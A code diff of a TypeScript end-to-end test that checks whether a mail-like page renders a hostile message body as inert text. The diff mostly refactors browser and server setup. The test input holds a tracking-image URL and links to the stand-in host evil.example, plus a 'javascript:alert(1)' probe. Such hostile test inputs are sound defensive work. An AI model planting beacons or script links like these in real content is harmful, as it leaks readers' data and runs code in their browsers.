@@ -1,9 +1,7 @@
-import type { Browser } from "playwright-core";
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { describe, expect, it } from "vitest";
 import { addToLog } from "./support/in-store.ts";
 import { newPage } from "./support/new-page.ts";
-import { openBrowser } from "./support/open-browser.ts";
-import { startBron, type StartedBron } from "./support/started-bron.ts";
+import { startForFile } from "./support/start-for-file.ts";
 import { untilState } from "./support/until-state.ts";
 
 const image = "![x](https://evil.example/p.png?d=61000)";
@@ -13,17 +11,9 @@ const hostile = {
   text: `${image}\n\n[r]: https://evil.example/ref\n<a href="https://evil.example/d">here</a> javascript:alert(1)`,
 };
 
-describe("what the page shows of others' words", () => {
-  let bron: StartedBron;
-  let browser: Browser;
-  beforeAll(async () => {
-    [bron, browser] = await Promise.all([startBron(), openBrowser()]);
-  }, 120_000);
-  afterAll(async () => {
-    await browser.close();
-    await bron.close();
-  });
+const { bron, browser } = await startForFile();
 
+describe("what the page shows of others' words", () => {
   it("X3 is text: no link, no image, nothing fetched by showing it, and nothing hidden or turned around", async () => {
     await bron.control("deliver", {
       account: "mara@lindqvist.example",
